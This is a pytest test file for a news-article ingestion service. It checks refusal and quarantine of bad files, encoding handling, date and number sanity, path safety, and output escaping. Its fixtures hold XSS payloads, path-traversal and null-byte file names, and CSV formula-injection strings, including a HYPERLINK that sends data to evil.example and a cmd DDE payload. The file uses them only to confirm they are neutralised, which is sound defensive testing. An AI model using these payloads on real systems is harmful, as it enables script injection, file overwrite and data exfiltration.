"""Bad input gets a clear answer, nothing is lost, nothing runs.

Every case is a real file (bytes written to ``tmp_path``) sent through the store API (``Store.ingest_upload`` /
``ingest_paths``) and through the command line (``python -m data_layer ingest``). Each bad input must get a
specific human reason, the rest of the batch must still go in, and refused inputs must land in the quarantine.

Rule for impossible publication dates: a date before 1900 or more than a year from today is dropped as metadata
(``published`` is None, the result's reason says why); the article itself is kept.
"""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import pandas as pd
import pytest

from data_layer import cli
from data_layer.export import to_csv_bytes
from data_layer.service import export_frames, open_store

GOOD = (
    b"Acme Corp to cut 1,200 jobs\n\nAcme Corp said on Monday it would cut 1,200 jobs. Its shares closed at $12.50.\n"
)
CP1252_TEXT = "Acme’s €5 million café deal\n\nAcme said the €5 million café deal “closed” on Monday.\n"
LATIN1_TEXT = "Société Générale résultats\n\nSociété Générale said profits rose à la fin de l'année.\n"
XSS_HTML = b"""<html><head><title>Acme <script>alert(1)</script> news</title><script>alert(2)</script></head>
<body><h1>Acme cuts jobs</h1><p>Acme said it would cut 500 jobs. <a href="javascript:alert(3)">the filing</a>
<img src=x onerror="alert(4)"></p><iframe src="https://evil.example/">iframe fallback text</iframe>
<p onclick="alert(5)">Shares closed at $12.50 on Friday.</p></body></html>"""
JSONL = (
    b'{"id": "good-1", "title": "Acme one", "text": "Acme shares closed at $12.50 on Friday."}\n'
    b"{this is not json\n"
    b'{"id": "good-2", "title": "Acme two", "text": "Acme said it would cut 500 jobs."}\n'
    b"[1, 2]\n"
)

# (file name, bytes, words the reason must contain); every one of these is refused
REFUSED = [
    ("empty.txt", b"", ["empty"]),
    ("blank.md", b"  \n\n\t ", ["empty"]),
    ("report.txt", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >>", ["PDF", "not a text article"]),
    ("chart.md", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", ["PNG image"]),
    ("bundle.html", b"PK\x03\x04\x14\x00\x00\x00\x08\x00", ["ZIP archive"]),
    ("sheet.txt", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64, ["Office document"]),
    ("noise.txt", b"ab\x00\x01\x02\x00" * 50, ["binary"]),
    ("slides.pptx", b"Acme said it would cut 10 jobs.", ["unsupported file type", ".pptx"]),
    ("feed.json", b'{"id": 1, "title": "", "text": ""}', ["no usable article"]),
]


@pytest.fixture
def data_dir(tmp_path, monkeypatch) -> Path:
    d = tmp_path / "data"
    monkeypatch.setenv("NEWSDASH_DATA_DIR", str(d))
    monkeypatch.delenv("NEWSDASH_MAX_FILE_MB", raising=False)
    return d


def _write(folder: Path, files: dict[str, bytes]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return folder


def _cli(capsys, *argv: str) -> tuple[int, str]:
    code = cli.main(list(argv))
    out = capsys.readouterr()
    return code, out.out + out.err


# --------------------------------------------------------------------------- refused inputs


@pytest.mark.parametrize(("name", "data", "words"), REFUSED, ids=[r[0] for r in REFUSED])
def test_bad_upload_is_refused_with_a_reason_and_quarantined(store, name, data, words):
    (r,) = store.ingest_upload(name, data)
    assert r.status == "rejected" and r.article_id is None
    assert all(w.lower() in r.reason.lower() for w in words), r.reason
    q = store.table("quarantine")
    assert list(q.columns) == ["name", "size", "hash", "reason", "logged_at"]
    row = q.iloc[0]
    assert (row["name"], row["size"], row["reason"]) == (name, len(data), r.reason)
    assert len(row["hash"]) == 64 and pd.notna(row["logged_at"])
    assert store.n_articles() == 0


def test_a_batch_with_bad_files_still_ingests_the_good_ones(store, tmp_path):
    folder = _write(tmp_path / "in", {name: data for name, data, _ in REFUSED} | {"good.txt": GOOD})
    results = {Path(r.name).name: r for r in store.ingest_paths(folder)}
    assert results["good.txt"].status == "added"
    refused = {n for n, r in results.items() if r.status == "rejected"}
    assert refused == {n for n, _, _ in REFUSED} - {"slides.pptx"}  # folders are walked for supported types only
    assert set(store.table("quarantine")["name"].map(lambda p: Path(p).name)) == refused
    assert store.n_articles() == 1 and len(store.frames()["layoffs"]) >= 1


def test_cli_reports_each_refused_file_and_stores_the_rest(data_dir, tmp_path, capsys):
    folder = _write(tmp_path / "in", {name: data for name, data, _ in REFUSED} | {"good.txt": GOOD})
    code, out = _cli(capsys, "ingest", str(folder))
    assert code == 0
    for name, _, words in REFUSED:
        if name.endswith(".pptx"):
            continue
        (line,) = [x for x in out.splitlines() if x.startswith("rejected") and f"{name} (" in x]
        assert all(w.lower() in line.lower() for w in words), line
    assert "1 added, 0 duplicate, 8 rejected" in out and str(data_dir) in out
    with open_store() as s:  # the CLI wrote to $NEWSDASH_DATA_DIR
        assert s.n_articles() == 1 and len(s.table("quarantine")) == 8


def test_cli_on_only_bad_files_fails_and_on_a_missing_path_says_so(data_dir, tmp_path, capsys):
    folder = _write(tmp_path / "in", {"empty.txt": b""})
    code, out = _cli(capsys, "ingest", str(folder / "empty.txt"))
    assert code == 1 and "file is empty" in out
    code, out = _cli(capsys, "ingest", str(tmp_path / "nowhere.txt"))
    assert code == 2 and "no such file or folder" in out


def test_too_large_file_is_refused_by_api_and_cli(store, data_dir, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("NEWSDASH_MAX_FILE_MB", "0.01")  # ~10 KB
    big = GOOD + b"Acme shares rose again. " * 1000
    (r,) = store.ingest_upload("big.txt", big)
    assert r.status == "rejected" and "larger than" in r.reason and "MB" in r.reason
    assert store.ingest_upload("small.txt", GOOD)[0].status == "added"
    folder = _write(tmp_path / "in", {"big.txt": big, "small.txt": GOOD})
    code, out = _cli(capsys, "ingest", str(folder))
    assert code == 0 and "1 added, 0 duplicate, 1 rejected" in out and "larger than the 0.01 MB limit" in out


def test_same_bytes_twice_is_a_duplicate_not_a_second_article(store, data_dir, tmp_path, capsys):
    assert store.ingest_upload("a.txt", GOOD)[0].status == "added"
    (r,) = store.ingest_upload("copy-of-a.txt", GOOD)
    assert (r.status, r.article_id) == ("duplicate", "a") and "already" in r.reason
    assert store.n_articles() == 1 and store.table("quarantine").empty
    folder = _write(tmp_path / "in", {"a.txt": GOOD, "b.txt": GOOD})
    _cli(capsys, "ingest", str(folder))
    code, out = _cli(capsys, "ingest", str(folder))
    assert code == 0 and "0 added, 2 duplicate, 0 rejected" in out


# --------------------------------------------------------------------------- decoding


@pytest.mark.parametrize(
    ("name", "data", "want"),
    [
        ("cp1252.txt", CP1252_TEXT.encode("cp1252"), ["’", "€", "é", "“closed”"]),
        ("latin1.txt", LATIN1_TEXT.encode("latin-1"), ["Société Générale", "à la fin"]),
        ("utf16.txt", CP1252_TEXT.encode("utf-16"), ["’", "€", "é"]),  # "utf-16" writes a BOM
        ("utf16be.md", "\ufeff".encode("utf-16-be") + CP1252_TEXT.encode("utf-16-be"), ["’", "€"]),
        ("utf8bom.txt", b"\xef\xbb\xbf" + CP1252_TEXT.encode("utf-8"), ["’", "€", "é"]),
        (
            "mojibake.txt",
            CP1252_TEXT.replace("”", "").encode("utf-8").decode("cp1252").encode("utf-8"),
            ["’", "€", "é"],
        ),
    ],
)
def test_legacy_encodings_are_decoded(store, data_dir, tmp_path, capsys, name, data, want):
    (r,) = store.ingest_upload(name, data)
    art = store.article(r.article_id)
    assert r.status == "added" and all(w in art.body for w in want), art.body
    assert want[0] in art.title and "\ufffd" not in art.body + art.title
    _write(tmp_path / "in", {name: data})
    assert _cli(capsys, "ingest", str(tmp_path / "in" / name))[0] == 0
    with open_store() as s:
        assert s.article(r.article_id).body == art.body


# --------------------------------------------------------------------------- nothing runs


def test_html_scripts_frames_handlers_and_javascript_links_are_dropped(store):
    (r,) = store.ingest_upload("xss.html", XSS_HTML)
    art = store.article(r.article_id)
    text = (art.title + "\n" + art.body).lower()
    for bad in ("<script", "alert(", "<iframe", "iframe fallback", "javascript:", "onerror", "onclick", "<img", "<"):
        assert bad not in text, bad
    assert art.title == "Acme news" and "cut 500 jobs" in art.body and "closed at $12.50" in art.body


def test_json_lines_keep_good_lines_and_report_bad_ones_by_line_number(store, data_dir, tmp_path, capsys):
    results = store.ingest_upload("feed.jsonl", JSONL)
    assert [r.article_id for r in results if r.status == "added"] == ["good-1", "good-2"]
    refused = [r.reason for r in results if r.status == "rejected"]
    assert len(refused) == 2
    assert refused[0].startswith("line 2:") and "not valid JSON" in refused[0]
    assert refused[1].startswith("line 4:") and "not a JSON object" in refused[1]
    assert store.table("quarantine")["reason"].tolist() == refused
    _write(tmp_path / "in", {"feed.jsonl": JSONL})
    code, out = _cli(capsys, "ingest", str(tmp_path / "in"))
    assert code == 0 and "2 added, 0 duplicate, 2 rejected" in out and "(line 2: not valid JSON" in out


# --------------------------------------------------------------------------- dates and numbers


def _record_dates(store, article_id: str) -> list:
    frames = store.frames()
    out = []
    for table, col in (("prices", "date"), ("targets", "date"), ("layoffs", "date"), ("events", "date_start")):
        df = frames[table]
        out += [d for d in df.loc[df["article_id"] == article_id, col] if pd.notna(d)]
    return out


def test_no_date_gives_no_published_and_no_invented_record_dates(store):
    text = b"Acme shares slip\n\nAcme shares closed at $10.50 on Friday, and it plans to cut 300 jobs next month.\n"
    (r,) = store.ingest_upload("undated.txt", text)
    assert r.status == "added" and r.reason == ""
    assert store.article("undated").published is None
    frames = store.frames()
    assert len(frames["prices"]) == 1 and len(frames["layoffs"]) == 1
    assert _record_dates(store, "undated") == []


@pytest.mark.parametrize(
    ("name", "data", "warned"),
    [
        ("future.txt", b"Acme shares jump\nPublished: January 5, 2099\n\nAcme shares closed at $12.50 on Friday.", "2099"),
        ("future.jsonl", b'{"id": "f", "title": "Acme", "text": "Acme shares closed at $9.50.", "published": "2099-06-01"}',
         "line 1: published date 2099-06-01"),
        ("past.jsonl", b'{"id": "old", "title": "Acme", "text": "Acme shares closed at $9.50.", "published": "1850-03-03"}',
         None),  # the date reader itself refuses years before 1900
        ("past.txt", b"Acme shares sink\nPublished: March 3, 1850\n\nAcme shares closed at $11.50 on Friday.", None),
    ],
)  # fmt: skip
def test_impossible_publication_date_is_dropped_and_the_article_kept(store, name, data, warned):
    (r,) = store.ingest_upload(name, data)
    assert r.status == "added" and store.article(r.article_id).published is None
    if warned:
        assert "impossible" in r.reason and warned in r.reason and "ignored" in r.reason
        assert store.table("ingest_log")["reason"].str.contains("impossible").any()
    assert all(1900 <= pd.Timestamp(d).year <= 2100 for d in _record_dates(store, r.article_id))
    assert not any(pd.Timestamp(d).year in (1850, 2099) for d in _record_dates(store, r.article_id))


def test_impossible_numbers_give_no_invalid_records(store):
    text = (
        b"Acme numbers\n\nAcme shares closed at $0.00 on Friday. The deal was worth $1e308. "
        b"Acme said -16,000 jobs would go. Acme raised $1e400 billion in funding. Analysts set a price target of "
        b"$-50 and of $99999999999999999999999. Shares fell 1e309% to $NaN.\n"
    )
    assert store.ingest_upload("numbers.txt", text)[0].status == "added"
    f = store.frames()
    for table, col, positive in (("prices", "price", True), ("targets", "target", True),
                                 ("targets", "previous_target", True), ("layoffs", "low", False),
                                 ("layoffs", "high", False), ("events", "amount_usd", False)):  # fmt: skip
        values = [float(v) for v in f[table][col] if pd.notna(v)]
        assert all(math.isfinite(v) and (v > 0 if positive else v >= 0) for v in values), (table, col, values)
    assert not (f["prices"]["price"] == 0).any()
    assert all(math.isfinite(float(v)) for v in f["prices"]["change_pct"].dropna())


# --------------------------------------------------------------------------- names, exports


@pytest.mark.parametrize(
    "name",
    ["../x.txt", "../../../../tmp/escape.txt", "/etc/passwd.txt", "nul\x00byte.txt", "..\\..\\win.txt", "a/../../b.md",
     "..", "con\x1b[31m.txt"],
)  # fmt: skip
def test_upload_names_cannot_escape_the_data_directory(data_dir, tmp_path, monkeypatch, name):
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    before = {p for p in tmp_path.parent.rglob("*") if tmp_path not in p.parents and p != tmp_path}
    with open_store() as s:
        (r,) = s.ingest_upload(name, GOOD)
        assert r.status == "added"
        aid = r.article_id
        assert aid and "/" not in aid and "\\" not in aid and ".." not in aid and "\x00" not in aid
        assert not any(ord(c) < 32 for c in r.name + aid) and "/" not in r.name and "\\" not in r.name
        assert s.table("ingest_log")["name"].tolist() == [r.name]
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert written and all(data_dir in p.parents for p in written), written
    assert not any(cwd.iterdir())
    after = {p for p in tmp_path.parent.rglob("*") if tmp_path not in p.parents and p != tmp_path}
    assert not {p for p in after - before if p.name in {"x.txt", "escape.txt", "passwd.txt", "win.txt", "b.md"}}


def test_csv_exports_neutralise_formulas(tmp_path, capsys, data_dir):
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
    text = f"{formula}\n\n+cmd|' /C calc'!A0 Acme Corp said it would cut 1,200 jobs. Its shares closed at $12.50."
    with open_store() as s:
        assert s.ingest_upload("formula.txt", text.encode())[0].status == "added"
    with open_store() as s:
        frames = export_frames(s)
    rows = list(csv.DictReader(io.StringIO(to_csv_bytes(frames["articles"]).decode())))
    assert rows[0]["title"] == "'" + formula
    cells = [c for row in rows for c in row.values()]
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    code, _ = _cli(capsys, "export", "--out", str(tmp_path / "out"))
    assert code == 0
    for path in (tmp_path / "out").glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            bad = [c for c in row if c.startswith(("=", "+", "@")) or (c.startswith("-") and not _number(c))]
            assert not bad, (path.name, bad)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# --------------------------------------------------------------------------- the dashboard


def test_script_in_an_article_renders_as_text_and_refusals_are_listed(data_dir, monkeypatch):
    import streamlit as st
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("NEWSDASH_SAMPLE", "0")
    monkeypatch.delenv("NEWSDASH_STORE", raising=False)
    evil = "<script>alert(1)</script>"
    img = "<img src=x onerror=alert(1)>"
    text = (
        f"{evil} Acme jobs {img}\n\nAcme Corp {evil} said it would cut 1,200 jobs. {img} Its shares closed at $12.50."
    )
    with open_store() as s:
        (r,) = s.ingest_upload("evil.txt", text.encode())
        assert s.ingest_upload("report.txt", b"%PDF-1.7 binary")[0].status == "rejected"
    st.cache_data.clear()
    at = AppTest.from_file(str(Path(__file__).resolve().parent.parent / "dashboard.py"), default_timeout=120)
    at.query_params["article"] = r.article_id
    at.switch_page("app_pages/sources.py")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert at.selectbox(key="article_pick").value == r.article_id
    raw_html = [el.proto.body for el in at.get("html")]
    raw_html += [m.value for m in at.markdown if m.proto.allow_html] + [
        m.value for m in at.caption if m.proto.allow_html
    ]
    assert raw_html and any("&lt;script&gt;" in h for h in raw_html)  # the body is shown, escaped
    tags = _tags("".join(raw_html))
    assert not {t for t, _ in tags} & {"script", "img", "iframe"}, tags
    assert not [a for _, attrs in tags for a, v in attrs if a.startswith("on") or "javascript:" in (v or "")]
    refused = [df.value for df in at.dataframe if "reason" in df.value.columns]
    assert refused and refused[0]["name"].tolist() == ["report.txt"] and "PDF" in refused[0]["reason"].iloc[0]
    st.cache_data.clear()


def _tags(markup: str) -> list[tuple[str, list]]:
    """Every element a browser would build from ``markup`` (tag, attributes)."""
    from html.parser import HTMLParser

    found: list[tuple[str, list]] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))

    Collect().feed(markup)
    return found
